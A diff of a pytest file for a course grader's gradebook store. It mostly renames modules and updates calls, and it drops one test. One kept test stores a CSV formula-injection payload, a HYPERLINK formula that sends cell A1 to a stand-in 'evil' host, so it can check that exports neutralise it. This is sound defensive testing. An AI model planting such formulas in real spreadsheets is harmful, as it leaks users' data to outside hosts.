@@ -6,11 +6,24 @@ import csv
 import io
 
 import pytest
-from sqlalchemy import event
+from sqlalchemy import event, select, update
 from sqlalchemy.orm import Session
 
-from grader.store import claims, courses, gradebook, people, queue, submissions
+from grader.store import (
+    claims,
+    courses,
+    enrolments,
+    gradebook,
+    overrides,
+    requeue,
+    submissions,
+    tables,
+    users,
+)
 from grader.store.gradebook import Cell
+from grader.store.gradebook_csv import csv_lines
+from grader.store.matrix import matrix
+from grader.store.tables import Override
 
 from .world import World, a_report
 
@@ -47,7 +60,7 @@ def test_only_graded_submissions_cost_an_attempt(world: World) -> None:
     assert (found.score, found.attempts, found.best_submission, found.pending) == (None, 0, None, True)
     with world.store.write() as session:
         claims.claim(session, "me", 60)
-        assert queue.give_back(session, mine, "me", "broken", False) == "failed"
+        assert requeue.give_back(session, mine, "me", "broken", False) == "failed"
     found = cell(world, world.ada)
     assert (found.score, found.attempts, found.pending) == (None, 0, False)
 
@@ -58,7 +71,7 @@ def test_the_newest_override_holds(world: World) -> None:
 
     def override(user: int, score: float | None) -> None:
         with world.store.write() as session:
-            gradebook.override(
+            overrides.set_total(
                 session,
                 assignment_id=world.first,
                 user_id=user,
@@ -78,7 +91,10 @@ def test_the_newest_override_holds(world: World) -> None:
     found = cell(world, world.ada)
     assert (found.score, found.override) == (8.0, None)
     with world.store.read() as session:
-        assert [o.score for o in gradebook.overrides(session, world.first, world.ada)] == [None, 3.0, 10.0]
+        kept = session.scalars(
+            select(Override.score).where(Override.user_id == world.ada).order_by(Override.id)
+        )
+        assert kept.all() == [10.0, 3.0, None], "earlier ones stay on record"
 
 
 def test_the_gradebook_shows_students_by_name_and_assignments_in_order(world: World) -> None:
@@ -89,9 +105,6 @@ def test_the_gradebook_shows_students_by_name_and_assignments_in_order(world: Wo
         book = gradebook.gradebook(session, world.course)
         assert [row.user.login for row in book.rows] == ["ada", "bob", "cyd"]
         assert [a.exercise for a in book.assignments] == ["control-flow", "backward-twice"]
-        bob = people.get_user(session, world.bob)
-        assert bob is not None
-        assert gradebook.student_row(session, world.course, bob).cells == book.rows[1].cells
         assert book.rows[1].total == 10.0 and book.rows[1].cells[1].passed
 
 
@@ -109,8 +122,8 @@ def test_the_number_of_queries_does_not_grow(world: World) -> None:
         few = queries(session)
     with world.store.write() as session:
         for n in range(27):
-            user = people.add_user(session, f"s{n}", f"S {n}")
-            people.enrol(session, user.id, world.course.id)
+            user = users.add_user(session, f"s{n}", f"S {n}")
+            enrolments.enrol(session, user.id, world.course.id)
     world.grade(world.ada, 3.0)
     with world.store.read() as session:
         assert queries(session) == few == 4
@@ -124,9 +137,9 @@ def test_one_user_stands_in_each_course_as_the_gradebook_says(world: World) -> N
         other = courses.add_course(session, "other", "Other")
         third = courses.assign(session, other.id, "control-flow")
     with world.store.read() as session:
-        ada = people.get_user(session, world.ada)
+        ada = users.get_user(session, world.ada)
         assert ada is not None
-        row = gradebook.student_row(session, world.course, ada)
+        row = gradebook.gradebook(session, world.course).rows[0]
         found = gradebook.standing(session, ada, [world.course.id, other.id])
         assert gradebook.standing(session, ada, []) == {}
     assert [assignment.id for assignment, _cell in found[world.course.id]] == [world.first, world.second]
@@ -136,33 +149,17 @@ def test_one_user_stands_in_each_course_as_the_gradebook_says(world: World) -> N
     assert found[other.id][0][0].id == third.id
 
 
-def test_the_class_difficulties_are_counted_in_students(world: World) -> None:
-    """One student who errs thrice counts once; the most widespread comes first; a pass is none."""
-    for _ in range(3):
-        world.grade(world.ada, 2.0, code="sign")
-    world.grade(world.bob, 2.0, code="scale")
-    world.grade(world.cyd, 2.0, code="scale")
-    world.grade(world.cyd, 10.0)
-    world.grade(world.teacher, 2.0, code="sign")
-    with world.store.read() as session:
-        found = gradebook.difficulties(session, world.course.id)
-    assert [(d.exercise, d.check_id, d.code, d.students) for d in found] == [
-        ("control-flow", "prediction", "scale", 2),
-        ("control-flow", "prediction", "sign", 1),
-    ]
-
-
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@", "＝"])
 def test_cant_put_a_formula_into_the_teachers_spreadsheet(world: World, start: str) -> None:
     """Neither by one's name nor by one's login."""
     evil = f'{start}HYPERLINK("http://evil/?"&A1,"x")'
     with world.store.write() as session:
-        user = people.add_user(session, "x", "x")
+        user = users.add_user(session, "x", "x")
         # As an import from elsewhere might store them, without this room's trimming.
         user.name, user.login = evil, evil
-        people.enrol(session, user.id, world.course.id)
+        enrolments.enrol(session, user.id, world.course.id)
     with world.store.read() as session:
-        text = "".join(gradebook.csv_lines(gradebook.gradebook(session, world.course)))
+        text = "".join(csv_lines(matrix(session, world.course)))
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
     assert cells.count("'" + evil) == 2
     assert not any(cell.lstrip()[:1] in set("=+-@＝") for cell in cells if cell)
@@ -174,9 +171,9 @@ def test_the_csv_holds_every_score_as_a_number(world: World) -> None:
     world.grade(world.ada, 10.0, world.second)
     world.grade(world.bob, 0.0)
     with world.store.write() as session:
-        session.execute(people.update(people.User).where(people.User.id == world.bob).values(name='B, "o"'))
+        session.execute(update(tables.User).where(tables.User.id == world.bob).values(name='B, "o"'))
     with world.store.read() as session:
-        text = "".join(gradebook.csv_lines(gradebook.gradebook(session, world.course)))
+        text = "".join(csv_lines(matrix(session, world.course)))
     assert list(csv.reader(io.StringIO(text, newline=""))) == [
         ["login", "name", "control-flow", "backward-twice", "total"],
         ["ada", "Ada", "6.5", "10", "16.5"],
